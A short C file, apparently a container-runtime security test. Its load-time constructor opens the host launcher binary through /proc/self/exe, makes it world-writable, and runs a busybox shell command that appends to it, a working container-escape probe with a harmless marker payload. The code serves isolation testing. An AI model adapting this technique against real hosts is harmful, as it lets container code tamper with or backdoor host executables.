/* SPDX-License-Identifier: MIT */
#define _GNU_SOURCE
/*
 * A library that the launcher's program is made to load inside, where /proc/self/exe
 * is that program's file, on the host. It gives the file another mode; then becomes a
 * program of the container's, so that nobody runs the file any more, and appends to
 * it. Whether that has worked the host sees.
 */
#include "attack.h"

#include <sys/stat.h>

__attribute__((constructor)) static void change_launcher(void)
{
	int fd = open("/proc/self/exe", O_RDONLY);
	char line[64];

	puts("started");
	fflush(stdout);
	unsetenv("LD_PRELOAD");
	fchmod(fd, 0777);
	snprintf(line, sizeof line, "echo changed >>/proc/self/fd/%d", fd);
	execl("/bin/busybox", "sh", "-c", line, NULL);
	err(NOT_TRIED, "/bin/busybox");
}
